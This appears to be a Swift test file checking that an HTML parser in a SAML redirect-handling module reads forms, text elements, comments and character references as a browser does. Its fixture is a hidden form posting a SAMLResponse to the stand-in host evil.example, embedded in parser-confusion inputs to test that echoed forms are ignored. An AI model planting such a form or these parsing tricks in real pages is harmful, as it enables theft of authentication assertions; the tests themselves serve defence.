import Testing

@testable import RedirectFlow

/// Pages mean here what they mean in a browser (HTML Living Standard §13.2).
@Suite struct BrowserReadingTests {
  private func page(_ html: String) throws -> Page {
    try Page(body: Array(html.utf8), url: "https://sp.example/a")
  }

  private static let form =
    "<form method=post action=//evil.example><input type=hidden name=SAMLResponse value=x></form>"

  /// Elements whose content is text until their own end tag (§13.2.5.2, §13.2.5.3, §13.2.5.5).
  static let texts = [
    "title", "textarea", "iframe", "xmp", "noembed", "noframes", "style", "script",
  ]

  @Test(arguments: texts)
  func `a form in an echoed text is no form`(_ name: String) throws {
    let echoes = [
      Self.form, "</" + Self.form, "</\(name)x>" + Self.form, "<!-- </b> --!>" + Self.form,
      "</ \(name)>" + Self.form, "<![CDATA[" + Self.form + "]]>", "<\(name)>" + Self.form,
    ]
    for echo in echoes {
      let page = try page(
        "<!DOCTYPE html><p>a<\(name)>\(echo)</\(name.uppercased()) ><a href=/b>c</a>")
      #expect(page.forms.isEmpty, "\(echo)")
      #expect(page.autoSubmittedForm == nil)
      #expect(page.links.map(\.target) == ["https://sp.example/b"], "\(echo)")
    }
  }

  @Test func `nothing ends plain text`() throws {
    let page = try page("<a href=/b>c</a><plaintext></plaintext>" + Self.form + "<a href=/d>e")
    #expect(page.forms.isEmpty)
    #expect(page.links.count == 1)
  }

  @Test(arguments: ["title", "textarea"])
  func `references count in escapable text alone`(_ name: String) throws {
    let page = try page("<\(name)>&lt;a>&#x80;&notit;<b></\(name)><style>&lt;</style>")
    #expect(page.elements(named: name).map(\.ownText) == ["<a>€¬it;<b>"])
    #expect(page.elements(named: "style").map(\.ownText) == ["&lt;"])
  }

  /// §13.2.5.4, the states of escaped script data.
  @Test(arguments: [
    "<script><!--<script></script>\(form)</script>--></script>",
    "<script><!--<script >\(form)--></script>", "<script>'<!-- '; //--></script>",
  ])
  func `a script may hold a script`(_ html: String) throws {
    let page = try page(html + "<a href=/b>c</a>")
    #expect(page.forms.isEmpty)
    #expect(page.links.count == 1)
  }

  /// An owner named by `form=` precedes the enclosing one, in any order (§4.10.17.3).
  @Test(arguments: [
    ("<input form=f name=a><form id=f></form>", [["a"]]),
    ("<form id=f></form><input form=f name=a>", [["a"]]),
    ("<form id=f><input form=g name=a></form><form id=g></form>", [[], ["a"]]),
    ("<form id=f><input form=none name=a><input form='' name=b><input name=c></form>", [["c"]]),
    ("<p id=f></p><form id=f></form><input form=f name=a>", [[]]),
    ("<form id=f></form><form id=f></form><input form=f name=a>", [["a"], []]),
    (
      "<button form=f name=a></button><select form=f name=b><option>x</select><form id=f>",
      [["a", "b"]]
    ),
  ])
  func `a control names its form`(_ html: String, _ names: [[String]]) throws {
    #expect(try page(html).forms.map { $0.fields.map(\.name) } == names)
  }

  /// The form element pointer (§13.2.4.4): a form in a form is ignored, its end tag ends the outer one, and a table's
  /// form owns what follows it in the table.
  @Test(arguments: [
    ("<form id=a><form id=b><input name=x></form><input name=y></form>", ["a": ["x"]]),
    ("<form id=a><div><form id=b></div><input name=x>", ["a": ["x"]]),
    (
      "<form id=a><div></form><input name=x></div><form id=b><input name=y>",
      ["a": ["x"], "b": ["y"]]
    ),
    ("<table><form id=a><tr><td><input name=x></table><input name=y>", ["a": ["x", "y"]]),
    (
      "<table><tr><form id=a><td><input name=x></td></form></tr></table><input name=y>",
      ["a": ["x"]]
    ),
    (
      "<table><form id=a><input type=hidden name=x><tr><td><input name=y></form></table>",
      ["a": ["x", "y"]]
    ),
    ("<table><form id=a></form><form id=b><tr><td><input name=x></table>", ["a": [], "b": ["x"]]),
    ("<div><form id=a></div><input name=x>", ["a": ["x"]]),
    (
      "<table><tr><td><form id=a><input name=x></td><td><input name=y></form></table>",
      ["a": ["x", "y"]]
    ),
  ])
  func `a control belongs to the open form`(_ html: String, _ expected: [String: [String]]) throws {
    let forms = try page(html).forms
    #expect(
      Dictionary(uniqueKeysWithValues: forms.map { ($0.identifier, $0.fields.map(\.name)) })
        == expected)
  }

  /// §13.2.5.80: numbers of C1 controls are those of windows-1252.
  @Test(arguments: [
    ("&#x80;", "€"), ("&#128", "€"), ("&#x9F;", "Ÿ"), ("&#x81;", "\u{81}"), ("&#0;", "\u{FFFD}"),
    ("&#xD800;", "\u{FFFD}"), ("&#x110000;", "\u{FFFD}"), ("&#99999999999999999999;", "\u{FFFD}"),
    ("&amp", "&"), ("&ampx", "&ampx"), ("&amp;x", "&x"), ("&ampx=", "&ampx="), ("&copy=", "&copy="),
    ("&notin;", "∉"), ("&notinx", "&notinx"), ("&not", "¬"), ("&#", "&#"), ("&#x;", "&#x;"),
    ("&;", "&;"),
    ("&lbrace;", "{"), ("&NotEqualTilde;", "≂̸"), ("&Amp;", "&Amp;"), ("&AMP;", "&"),
  ])
  func `references in attributes`(_ written: String, _ value: String) throws {
    let page = try page("<input name=a value='\(written)'>")
    #expect(page.elements(named: "input").map { $0.attributes["value"] } == [value])
  }

  /// §13.2.5.43 to 52 and the bogus ones.
  @Test(arguments: [
    "<!-->", "<!--->", "<!---->", "<!-- --!>", "<!-- > -->", "<!-- -- -->", "<!>", "</>", "<?>",
    "<!x>",
    "<?x <b>", "</ x>", "<!--<!--->", "<!----!><!-- --!-->", "<!ELEMENT \">\">", "<![CDATA[>",
  ])
  func `a comment ends where it ends`(_ comment: String) throws {
    #expect(try page("<p>\(comment)<a href=/b>c</a>").links.map(\.text) == ["c"])
    #expect(try page("\(comment)<a href=/b>c</a>").forms.isEmpty)
  }

  @Test(arguments: ["<!--", "<!-- -- >", "<!-- --!", "<!--<!-- --", "<!-- ->", "<?x"])
  func `a comment without end takes all`(_ comment: String) throws {
    let page = try page("<p>a</p>\(comment) <a href=/b ")
    #expect(page.links.isEmpty)
  }
}
